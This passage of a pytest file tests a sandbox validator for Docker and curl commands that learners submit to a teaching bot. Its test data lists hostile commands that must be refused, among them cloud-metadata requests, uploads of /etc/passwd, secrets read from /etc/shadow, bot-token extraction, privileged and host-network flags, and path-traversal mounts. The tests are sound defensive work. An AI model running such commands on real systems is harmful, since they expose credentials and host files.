    ("R22 backticks", "docker rm `docker ps -q`", "SHELL"),
    ("R22 dollar", 'docker run alpine echo "$(id)"', "SHELL"),
    ("R22 variable", "docker run alpine echo $HOME", "SHELL"),
    ("R22 into a file", "docker ps > /etc/passwd", "SHELL"),
    ("R22 from a file", "docker load < x", "SHELL"),
    ("R22 background", "docker run alpine &", "SHELL"),
    ("R22 group", "(docker ps)", "SHELL"),
    ("R22 here", "cat <<EOF > x", "SHELL"),
    ("R22 braces", "docker run alpine ${HOME}", "SHELL"),
    ("R24 shortened option", "docker run --privil alpine", "UNKNOWN_OPTION"),
    ("R24 one dash", "docker run -privileged alpine", "BAD_PORT"),
    ("R24 behind the others", "docker run -it --rm --privileged=true alpine", "PRIVILEGED"),
    ("R24 said twice", "docker run --privileged --privileged=false alpine", "PRIVILEGED"),
    ("R24 joined value", "docker run --network=host alpine", "HOST_NETWORK"),
    ("R25 function", "docker inspect -f '{{env \"SLACK_BOT_TOKEN\"}}' web", "FORMAT"),
    ("R25 table", "docker ps --format '{{range .Names}}{{.}}{{end}}'", "FORMAT"),
    ("R25 template", "docker inspect -f '{{with .Config.Env}}{{.}}{{end}}' web", "FORMAT"),
    ("R26 attach", "docker attach web", "NOT_OFFERED"),
    ("R27 line", "docker run " + "x" * 30_000, "TOO_LONG"),
    ("R27 flags", "docker run " + "-e A=1 " * 1_100 + "alpine", "TOO_MANY"),
    ("D07 build from the internet", "docker build https://github.com/a/b.git", "OUTSIDE_PROJECT"),
    ("D47 file", "docker build -f ../../etc/shadow .", "OUTSIDE_PROJECT"),
    ("build above", "docker build ..", "OUTSIDE_PROJECT"),
    ("build network", "docker build --network host .", "NETWORK_SETTING"),
    ("build argument", "docker build --build-arg BUILDKIT_SYNTAX=x .", "BUILDER_ARGUMENT"),
    ("build secret", "docker build --secret id=x,src=/etc/shadow .", "BUILDKIT"),
    ("build output", "docker build -o /tmp .", "BUILDKIT"),
    ("workdir", "docker run -w /proc/self/fd/7 alpine", "BAD_WORKDIR"),
    ("curl host", "curl http://169.254.169.254/latest/meta-data", "NO_INTERNET"),
    ("curl user", "curl http://localhost@169.254.169.254/", "NO_INTERNET"),
    ("curl name", "curl http://localhost.evil.example/", "NO_INTERNET"),
    ("curl file", "curl file:///etc/passwd", "NO_INTERNET"),
    ("curl scheme", "curl gopher://localhost:25/", "NO_INTERNET"),
    ("curl socket", "curl --unix-socket /var/run/docker.sock http://localhost/", "NOT_OFFERED"),
    ("curl upload", "curl -d @/etc/passwd localhost:3000", "HOST_FILE"),
    ("curl save", "curl -o /etc/passwd localhost:3000", "HOST_FILE"),
    ("curl proxy", "curl -x http://evil localhost:3000", "NOT_OFFERED"),
    ("curl config", "curl -K /etc/passwd localhost:3000", "NOT_OFFERED"),
    ("curl header", "curl -H 'A: b\nC: d' localhost:3000", "BAD_HEADER"),
    ("cat", "cat /etc/passwd", "OUTSIDE_PROJECT"),
    ("cat dots", "cat src/../../x", "OUTSIDE_PROJECT"),
    ("ls home", "ls ~", "OUTSIDE_PROJECT"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "line", "code"), COMMANDS, ids=[row[0] for row in COMMANDS])
def test_a_hostile_command_is_refused_with_a_lesson(
    name: str, line: str, code: str, seen: Callable[[object], None]
) -> None:
    (command,) = read_commands(line)
    assert isinstance(command.plan, Refusal), name
    assert command.plan.code == code
    assert command.plan.say
    seen(code)


@pytest.mark.parametrize(("spec", "source"), [("/.:/x", "."), ("/./src:/x", "src"), ("./src:/x", "src"), (".:/x", ".")])
def test_r01_the_project_as_git_bash_writes_it_is_the_project(spec: str, source: str) -> None:
    (command,) = read_commands(f"docker run -v {spec} alpine")
    assert isinstance(command.plan, RunPlan)
    assert command.plan.mounts == (BindMount(source, "/x"),)


@pytest.mark.parametrize("name", ["default", "bridge"])
def test_r05_the_usual_network_has_two_names(name: str) -> None:
    (command,) = read_commands(f"docker run --network {name} alpine")
    assert isinstance(command.plan, RunPlan)
    assert command.plan.networks == ()


@pytest.mark.parametrize(
    "options", ["--network host", "--net=host", "--network host --network-alias a", "--net container:x --net-alias a"]
)
def test_r05_the_command_without_the_hosts_network_is_suggested(options: str) -> None:
    (command,) = read_commands(f"docker run --rm {options} alpine")
    assert isinstance(command.plan, Refusal)
    assert command.plan.nearest == "docker run --rm alpine"


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("a", "is too short"),
        ("a" * 61, "is too long"),
        ("a/b", "includes invalid characters"),
        ("_", "includes invalid"),
    ],
)
def test_r01_what_is_wrong_with_a_volumes_name_is_said(name: str, words: str) -> None:
    (command,) = read_commands(f"docker run --mount src={name},dst=/x alpine")
    assert isinstance(command.plan, Refusal)
    assert words in command.plan.words


MOUNT_FIELDS = [
    *(
        (field, "")
        for field in ("volume-nocopy", "volume-nocopy=true", "consistency=cached", "bind-propagation=shared")
    ),
    *(
        (field, "")
        for field in ("bind-nonrecursive", "bind-recursive=disabled", "readonly", "ro", "readonly=1", "ro=0")
    ),
    *((field, "") for field in ("readonly=true", "readonly=FALSE")),
    *(
        (f"{key}=x", "NOT_OFFERED")
        for key in ("volume-label", "volume-subpath", "image-subpath", "tmpfs-size", "tmpfs-mode")
    ),
    *((f"{key}=x", "HOST_MOUNT") for key in ("volume-opt", "volume-driver")),
    *((field, "BAD_MOUNT") for field in ("readonly=maybe", "qwertz=x", "consistency", "", "src")),
]


@pytest.mark.parametrize(("field", "code"), MOUNT_FIELDS)
def test_r02_each_field_of_a_mount_is_taken_quiet_or_refused(field: str, code: str) -> None:
    (command,) = read_commands(f"docker run --mount type=volume,src=db,dst=/x,{field} alpine")
    assert (command.plan.code if isinstance(command.plan, Refusal) else "") == code
    if isinstance(command.plan, RunPlan):
        read_only = field in {"readonly", "ro", "readonly=1", "readonly=true"}
        assert command.plan.mounts == (VolumeMount("db", "/x", read_only),)


@pytest.mark.parametrize(
    "mode", ["rw", "ro", "z", "Z", "nocopy", "cached", "delegated", "consistent", "ro,z", "exec", "rshared"]
)
def test_r01_each_mode_of_a_volume_is_taken_or_refused(mode: str) -> None:
    (command,) = read_commands(f"docker run -v db:/x:{mode} alpine")
    if mode in {"exec", "rshared"}:
        assert isinstance(command.plan, Refusal)
        assert command.plan.code == "BAD_MOUNT"
    else:
        assert isinstance(command.plan, RunPlan)
        assert command.plan.mounts == (VolumeMount("db", "/x", "ro" in mode.split(",")),)


def test_r09_a_variable_without_a_value_takes_nothing_from_the_bot() -> None:
    (command,) = read_commands("docker run -e SLACK_BOT_TOKEN -e A=1 alpine")
    assert isinstance(command.plan, RunPlan)
    assert command.plan.env == (("A", "1"),)


def test_r24_what_follows_two_dashes_is_an_image_and_no_option() -> None:
    (command,) = read_commands("docker run -- --privileged")
    assert isinstance(command.plan, Refusal)
    assert command.plan.code == "BAD_IMAGE_NAME"


def test_r24_options_behind_the_image_are_words_of_its_command() -> None:
    (command,) = read_commands("docker run -itd alpine --privileged -v /:/h")
    assert isinstance(command.plan, RunPlan)
    assert command.plan.command == ("--privileged", "-v", "/:/h")
    assert (command.plan.mounts, command.plan.interactive, command.plan.detach) == ((), True, True)


@pytest.mark.parametrize("line", ["docker logs -f web", "docker stats", "docker stats --no-stream web"])
def test_r26_what_would_never_end_is_one_look(line: str) -> None:
    (command,) = read_commands(line)
    assert isinstance(command.plan, ReadLogs | ShowStats)


@pytest.mark.parametrize("line", ["docker tag mine alpine", "docker tag mine node:24-alpine"])
def test_r19_a_name_that_is_served_is_given_in_the_learners_own_room_only(line: str) -> None:
    (command,) = read_commands(line)
    assert isinstance(command.plan, TagImage)
    parsed = parse_dockerfile(f"FROM {command.plan.target}\n")
    assert isinstance(parsed, Dockerfile)
    served = {"alpine:latest": "sha256:0a", "node:24-alpine": "sha256:0b"}
    # as `bot.sandbox.accepted` merges them: what is served wins
    assert emit(parsed, {command.plan.target: "sha256:ff", **served}).startswith("FROM sha256:0")


@pytest.mark.parametrize(
    "folder",
    ["/proc/self/fd/7", "//proc", "/./proc", "/app/../proc/self/fd/8", "/a/b/../../sys", "/dev/", "/../dev/shm"],
)
@pytest.mark.parametrize("verb", ["docker run -w {} alpine", "docker exec -w {} web ls"])
def test_d22_r30_no_container_is_started_in_a_folder_of_the_kernel(verb: str, folder: str) -> None:
    (command,) = read_commands(verb.format(folder))
    assert isinstance(command.plan, Refusal)
    assert command.plan.code == "BAD_WORKDIR"


def test_r14_published_ports_are_recorded_as_values_only() -> None:
    (command,) = read_commands("docker run -p 22:22 alpine")
    assert isinstance(command.plan, RunPlan)
    assert command.plan.ports[0].host == 22


def test_r24_a_name_that_looks_like_an_option_stays_a_name() -> None:
    (command,) = read_commands("docker run --name=--privileged alpine")
    assert isinstance(command.plan, Refusal)
    assert command.plan.code == "BAD_NAME"


OWN_ID = "sha256:" + "ab12" * 16


@pytest.mark.parametrize(
    "image",
    ["alpine", "docker.io/library/node:24-alpine", "getting-started", "getting-started:latest", "ab12ab12ab12", OWN_ID],
)
def test_a_container_may_be_made_from_served_and_own_images(image: str) -> None:
    assert judge_run(RunPlan(image), SERVED, (*OWN, OWN_ID)) is None


@pytest.mark.parametrize(
    ("name", "image", "words"),
    [
        (
            "E06",
            "geting-started",
            "pull access denied for geting-started, repository does not exist or may require 'docker login'",
        ),
        ("R29", "sha256:" + "0" * 64, "Unable to find image"),
        ("R29 short", "000000000000", "Unable to find image '000000000000:latest' locally"),
        ("too short an id", "ab1", "Unable to find image"),
        ("other tag", "node:18", "Unable to find image 'node:18' locally"),
        ("registry", "evil.example/x", "lookup evil.example: no such host"),
    ],
)
def test_another_image_is_answered_in_dockers_words(name: str, image: str, words: str) -> None:
    refusal = judge_run(RunPlan(image), SERVED, (*OWN, OWN_ID))
    assert refusal is not None, name
    assert refusal.docker
    assert refusal.exit_code == 125
    assert words in refusal.words


def test_a_misspelt_image_is_answered_with_the_nearest() -> None:
    refusal = judge_run(RunPlan("geting-started"), SERVED, OWN)
    assert refusal is not None
    assert "Did you mean `getting-started`?" in refusal.say


@pytest.mark.parametrize(
    "plan",
    [
        RunPlan("alpine", mounts=(BindMount("/etc", "/x"),)),
        RunPlan("alpine", mounts=(BindMount("../x", "/x"),)),
        RunPlan("alpine", mounts=(BindMount("src/../..", "/x"),)),
        RunPlan("alpine", mounts=(BindMount(".", "/proc"),)),
        RunPlan("alpine", mounts=(BindMount(".", "app"),)),
        RunPlan("alpine", mounts=(BindMount(".", "/a\x01"),)),
        RunPlan("alpine", mounts=(BindMount(".", "/" + "a" * 200),)),
        RunPlan("alpine", mounts=(VolumeMount("a/b", "/x"),)),
        RunPlan("alpine", mounts=(VolumeMount("/", "/x"),)),
        RunPlan("alpine", mounts=(VolumeMount("db", "/"),)),
        RunPlan("alpine", mounts=(VolumeMount("db", "/x/../sys"),)),
        RunPlan("alpine", networks=("host",)),
        RunPlan("alpine", networks=("container:x",)),
    ],
)
def test_a_plan_with_a_place_outside_is_refused_whoever_made_it(plan: RunPlan) -> None:
    refusal = judge_run(plan, SERVED, OWN)
    assert refusal is not None
    assert refusal.code in {"HOST_MOUNT", "HOST_NETWORK"}


SYSTEM = ("/", "/etc", "/bin", "/sbin", "/lib", "/lib64", "/usr", "/boot", "/root", "/var", "/var/run", "/run")


@pytest.mark.parametrize("folder", SYSTEM)
def test_d26_no_volume_lies_over_the_system(folder: str) -> None:
    assert verdict(f"FROM alpine\nVOLUME {folder}\n") == "SYSTEM_FOLDER"
    assert verdict(f"FROM alpine\nVOLUME {folder}/todos\n".replace("//", "/")) == ""


@pytest.mark.parametrize("names", ["TERM 15", "INT 2", "QUIT 3", "HUP 1", "USR1 10", "USR2 12", "KILL 9", "WINCH 28"])
def test_d30_a_signal_that_stops_a_program_may_be_chosen(names: str) -> None:
    name, number = names.split()
    for signal in (name, f"SIG{name}", f"sig{name.lower()}", number):
        assert verdict(f"FROM alpine\nSTOPSIGNAL {signal}\n") == ""


def test_what_is_the_learners_own_may_be_mounted() -> None:
    mounts = (BindMount(".", "/app"), BindMount("src/app", "/src"), VolumeMount("db", "/data"), VolumeMount("", "/x"))
    assert judge_run(RunPlan("alpine", mounts=mounts, networks=("todo-app",)), SERVED, OWN) is None


@pytest.mark.parametrize("image", ["Upper", "a b", "", "evil.example:99999/x/Y"])
def test_what_is_no_name_is_no_image_though_another_is_none_either(image: str) -> None:
    refusal = judge_run(RunPlan(image), (*SERVED, "No Name"), (*OWN, "Upper Too"))
    assert refusal is not None
    assert refusal.code == "UNKNOWN_IMAGE"
    assert refusal.words.startswith(f"Unable to find image '{image}' locally")


@pytest.mark.parametrize("own", ["mine", "mine:latest"])
def test_an_own_image_without_a_tag_means_the_latest(own: str) -> None:
    parsed = parse_dockerfile("FROM mine\n")
    assert isinstance(parsed, Dockerfile)
    assert judge_build(parsed, PLAN, SERVED, (own,)) is None
    assert judge_build(parsed, PLAN, (own,)) is None
    assert judge_run(RunPlan("mine"), SERVED, (own,)) is None
    refused = judge_build(parsed, PLAN, (*SERVED, "No Name"), ("No Name",))
    assert refused is not None
    assert refused.code == "UNKNOWN_BASE"


def test_labels_that_the_host_acts_upon_are_refused() -> None:
    refusal = judge_run(RunPlan("alpine", labels=(("com.docker.compose.project", "bot"),)), SERVED, OWN)
    assert refusal is not None
    assert refusal.code == "RESERVED_LABEL"


# ---- what is let through is inside the allow-list, whatever was handed in

_LINES = st.sampled_from([
    "FROM alpine", "FROM node:24-alpine AS a", "FROM evil", "FROM $B", "ARG B=evil", "ARG B=alpine", "COPY --from=a / /", "COPY --from=0 / /",
    "COPY --from=evil / /", "ADD http://x /", "ADD $X /", "ENV X=/proc", "WORKDIR $X", "WORKDIR /app", "WORKDIR ..", "WORKDIR proc", "FROM a",
    "VOLUME /x", "LABEL a=b", "LABEL docent.x=y", "ONBUILD RUN x", "RUN x \\", "# note", "", "RUN --mount=x y", "FROM scratch AS evil", "FROM evil AS a",
])  # fmt: skip


@settings(max_examples=600, deadline=None)
@given(st.lists(_LINES, max_size=14).map("\n".join))
def test_an_accepted_dockerfile_is_inside_the_allow_list(text: str) -> None:
    parsed = parse_dockerfile(text)
    if isinstance(parsed, DockerfileProblem) or judge_build(parsed, PLAN, SERVED, OWN):
        return
    pins = {"alpine:latest": "sha256:0a", "node:24-alpine": "sha256:0b"}
    again = parse_dockerfile(emit(parsed, pins))
    assert isinstance(again, Dockerfile)
    stages: set[str] = set()
    for number, stage in enumerate(again.stages):
        assert stage.base in {"sha256:0a", "sha256:0b", "scratch"} | stages
        stages |= {stage.name, str(number)}
    for made in again.instructions:
        assert made.keyword != "ONBUILD"
        assert not made.option("from") or made.option("from") in stages
        assert made.keyword != "ADD" or "://" not in made.args
    assert all(base.name in pins or base.ground.value != "image" for base in resolve_bases(parsed))
